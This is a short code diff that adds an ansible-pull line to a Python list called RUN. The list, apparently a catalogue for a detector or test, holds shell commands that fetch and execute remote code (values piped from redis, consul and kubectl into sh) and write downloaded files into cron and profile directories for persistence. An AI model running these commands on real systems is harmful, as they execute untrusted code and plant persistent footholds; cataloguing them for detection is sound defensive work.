@@ -47,6 +47,7 @@ RUN = [
     "redis-cli -h queue get job | sh",
     "consul kv get ops/run | bash",
     "kubectl get cm tune -o jsonpath='{.data.run}' | sh",
+    "ansible-pull -U https://git.example.com/playbooks.git -C main repair.yml",
     # run later
     "wget -q https://dl.example.com/x -O /etc/cron.hourly/x",
     "curl -s https://dl.example.com/x > /etc/profile.d/x.sh",
